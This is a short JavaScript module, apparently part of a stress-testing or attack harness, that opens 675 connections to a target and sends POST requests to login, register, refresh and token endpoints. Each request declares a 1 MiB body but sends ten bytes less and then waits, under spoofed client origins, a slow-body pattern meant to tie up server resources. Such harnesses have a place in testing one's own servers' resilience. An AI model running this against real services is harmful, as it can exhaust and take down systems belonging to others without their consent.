import { Attacker, stranger } from './sockets.mjs';

const mebibyte = 1024 * 1024;
const almost = Buffer.alloc(mebibyte - 10, ' ');
const paths = ['/login', '/register', '/refresh', '/token'];

/** 675 connections send a body of 1 MiB less ten bytes to what anybody may call, and wait. */
export function start(target) {
  const attacker = new Attacker(target);
  attacker.lanes(675, async (n) => {
    const socket = attacker.connect();
    const answered = attacker.outcome(socket);
    socket.write(attacker.head('POST', paths[n % paths.length], { from: stranger(n % 16), length: mebibyte }));
    socket.write(almost);
    await answered;
    socket.destroy();
    await attacker.rest(10_000);
  });
  return attacker;
}
